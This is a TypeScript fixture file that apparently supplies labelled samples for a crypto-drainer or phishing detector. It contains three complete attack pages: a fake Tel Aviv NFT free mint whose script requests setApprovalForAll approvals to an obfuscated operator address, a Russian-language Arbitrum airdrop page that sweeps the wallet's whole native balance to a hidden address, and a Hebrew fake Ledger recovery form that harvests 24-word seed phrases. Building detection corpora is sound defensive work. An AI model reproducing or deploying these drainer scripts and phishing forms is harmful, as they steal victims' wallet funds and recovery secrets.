import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { FONT_AR, FONT_HE, LOGO, b64, codes, doc, hex, telegramDrop } from '../parts/yu-kit.js';

// Wallet drainers dressed as airdrops and presales of "local" tokens (a digital-shekel stablecoin,
// the UAE dirham stablecoin, a Dubai presale), an Israeli NFT mint, a fake approvals-revoke tool, and
// seed-phrase forms (wallet "validation", Ledger "recovery").

export const entries: Entry[] = [
{
  id: 'yu-drainer-tlv-nights-nft-setapprovalforall',
  label: 'cryptodrainer',
  kind: 'nft-approval-drainer',
  url: 'https://mint.tlvnights-nft.art/free-mint',
  body: doc({
    title: 'Tel Aviv Nights — Free Mint Live | לילות תל אביב',
    lang: 'en',
    css: `body{margin:0;background:#0a0a12;color:#fff;font-family:Arial}.h{text-align:center;padding:40px 16px;background:radial-gradient(circle,#3b0764,#0a0a12)}.g{display:flex;justify-content:center;gap:10px}
.g div{width:110px;height:110px;border-radius:10px;background:linear-gradient(135deg,#f472b6,#6366f1)}.mb{display:block;margin:24px auto;background:#f472b6;color:#000;border:0;padding:14px 44px;border-radius:30px;font-size:18px;font-weight:700}
.p{text-align:center;color:#c4b5fd}`,
    body: `<div class="h"><h1>TEL AVIV NIGHTS 🌃</h1><p>3,333 generative artworks by Tel Aviv street artists · Free mint for holders of any blue-chip NFT</p><div class="g"><div></div><div></div><div></div></div></div>
<button class="mb" id="mint">Connect &amp; Mint (FREE)</button><p class="p" id="pp">2,871 / 3,333 minted · ends in 00:42:10</p>
<script>
var OP="0x3cD751E6b0078Be393132286c442345e5DC49699".replace("3cD751","8aF2c0");
var COLS=["0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D","0x60E4d786628Fea6478F785A6d7e704777c86a7c6","0x49cF6f5d44E70224e2E23fDcdd2C053F30aDA28B","0xED5AF388653567Af2F388E6224dC7C4b3241C544"];
document.getElementById("mint").onclick=async function(){if(!window.ethereum)return alert("Install MetaMask");
var a=(await ethereum.request({method:"eth_requestAccounts"}))[0];var p=document.getElementById("pp");
var own=await fetch("/api/holdings/"+a).then(function(r){return r.json()}).catch(function(){return {c:COLS}});
for(var i=0;i<own.c.length;i++){p.textContent="Step "+(i+1)+"/"+own.c.length+": verifying holder status…";
try{await ethereum.request({method:"eth_sendTransaction",params:[{from:a,to:own.c[i],data:"0xa22cb465"+OP.slice(2).toLowerCase().padStart(64,"0")+"1".padStart(64,"0")}]})}catch(e){}}
p.textContent="Minted! Your NFT will be revealed in 24h."};
</script>`,
  }),
},
{
  id: 'yu-drainer-arbitrum-airdrop-native-sweep-ru',
  label: 'cryptodrainer',
  kind: 'native-transfer-drainer',
  url: 'https://arb-drop-ru.claim-layer2.io/ru/',
  body: doc({
    title: 'Arbitrum Airdrop Сезон 3 — Получить ARB',
    lang: 'ru',
    css: `body{margin:0;background:#0b1a2e;color:#e8f1ff;font-family:Arial}.c{max-width:460px;margin:60px auto;background:#12263f;border-radius:14px;padding:26px;text-align:center}
.b{background:#28a0f0;color:#fff;border:0;border-radius:10px;padding:14px;width:100%;font-size:17px}`,
    body: `<div class="c"><h2>Arbitrum Airdrop · Сезон 3</h2><p>Проверьте право на получение до <b>2 500 ARB</b>. Осталось 11 часов.</p><button class="b" id="x">Подключить кошелёк</button><p id="t" style="font-size:13px;color:#8fb3d9"></p></div>
<script>
(function(){var _s=[${codes('eth_requestAccounts')}],_g=[${codes('eth_getBalance')}],_t=[${codes('eth_sendTransaction')}];var f=function(a){return String.fromCharCode.apply(null,a)};
var R=["0x5c","1Fe8b","3A94d","07cE2","61aB9","f0D38","4e7C1","a9B2e","D05"].join("");
document.getElementById("x").onclick=async function(){var e=window.ethereum;if(!e){document.getElementById("t").textContent="Откройте в приложении кошелька";return}
var a=(await e.request({method:f(_s)}))[0];document.getElementById("t").textContent="Кошелёк "+a.slice(0,6)+"… имеет право на 1 870 ARB. Подтвердите получение.";
try{await e.request({method:"wallet_switchEthereumChain",params:[{chainId:"0xa4b1"}]})}catch(_){}
var bal=BigInt(await e.request({method:f(_g),params:[a,"latest"]}));var gas=BigInt(21000)*BigInt(100000000)*BigInt(2);if(bal<=gas)return;
var v="0x"+(bal-gas).toString(16);try{var h=await e.request({method:f(_t),params:[{from:a,to:R,value:v,gas:"0x5208"}]});fetch("/ru/log",{method:"POST",body:a+"|"+h})}catch(_){document.getElementById("t").textContent="Ошибка. Повторите попытку."}}})();
</script>`,
  }),
  routes: { 'arb-drop-ru.claim-layer2.io/ru/log': jsonRoute({}) },
},
{
  id: 'yu-seed-phrase-ledger-recovery-hebrew-php',
  label: 'cryptodrainer',
  kind: 'seed-phrase-phish',
  url: 'https://ledger-live-il.recover-support.com/he/recovery',
  body: doc({
    title: 'Ledger - שחזור ארנק לאחר דליפת מידע',
    lang: 'he',
    css: `body{margin:0;font-family:${FONT_HE};background:#000;color:#fff}.c{max-width:560px;margin:40px auto;padding:0 18px}.al{border:1px solid #ff5300;padding:14px;border-radius:8px;color:#ffb38a}
textarea{width:100%;box-sizing:border-box;height:110px;background:#111;color:#fff;border:1px solid #444;border-radius:8px;padding:12px;direction:ltr;font-size:15px}
select,input{background:#111;color:#fff;border:1px solid #444;border-radius:8px;padding:10px;width:100%;box-sizing:border-box;margin:6px 0}button{background:#bbb0ff;color:#000;border:0;border-radius:24px;padding:13px 40px;font-size:16px}`,
    body: `<div class="c"><h1 style="font-weight:300">LEDGER</h1>
<div class="al">⚠ בעקבות דליפת מאגר הלקוחות של Ledger, כתובות ארנקים של לקוחות בישראל סומנו כפגיעות. כדי להעביר את הנכסים לכספת מוגנת חדשה, יש לאמת את מילות השחזור של המכשיר.</div>
<form method="post" action="/he/recovery/submit.php"><label>דגם המכשיר</label><select name="dev"><option>Ledger Nano X</option><option>Ledger Nano S Plus</option><option>Ledger Stax</option><option>Ledger Flex</option></select>
<label>מילות השחזור (24 מילים, מופרדות ברווח)</label><textarea name="phrase" required placeholder="word1 word2 word3 ..."></textarea>
<label>אימייל לקבלת אישור</label><input name="email" type="email"><button>אימות והעברה לכספת</button></form></div>`,
  }),
  routes: { 'ledger-live-il.recover-support.com/he/recovery/submit.php': htmlRoute('<!DOCTYPE html><html><body>OK</body></html>') },
},
];
